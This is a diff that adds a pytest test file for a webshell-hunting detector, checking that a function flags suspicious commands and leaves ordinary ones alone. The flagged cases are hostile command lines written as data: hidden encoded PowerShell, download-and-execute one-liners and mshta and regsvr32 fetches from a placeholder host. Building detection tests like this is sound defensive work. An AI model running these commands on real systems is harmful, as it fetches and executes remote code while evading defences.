@@ -1,0 +1,49 @@
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from webshellhunt.knowledge.suspicious_commands import telling_command
+
+BASE64 = "QQBBAEEAQQ" * 5
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"powershell -nop -w hidden -EncodedCommand {BASE64}",
+        f"pwsh -e {BASE64}",
+        "iex (iwr http://x.example/a)",
+        "(New-Object Net.WebClient).DownloadString($u) | Invoke-Expression",
+        "[System.Reflection.Assembly]::Load($bytes)",
+        "mshta https://x.example/a",
+        "regsvr32 /s /n /u /i:http://x.example/a scrobj.dll",
+    ],
+)
+def test_who_hides_says_so(text: str) -> None:
+    found = telling_command(text)
+    assert found is not None
+    words, start, end = found
+    assert words
+    assert text[start:end].strip()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "powershell -File C:\\Scripts\\a.ps1 -Encoding utf8",
+        "Invoke-WebRequest http://x.example/a -OutFile a.zip",
+        "[Reflection.Assembly]::LoadWithPartialName('System.Web')",
+        "mshta.exe C:\\Tools\\a.hta",
+        "",
+    ],
+)
+def test_ordinary_commands(text: str) -> None:
+    assert telling_command(text) is None
+
+
+@given(st.text())
+def test_any_text_has_an_answer(text: str) -> None:
+    found = telling_command(text)
+    assert found is None or 0 <= found[1] < found[2] <= len(text)
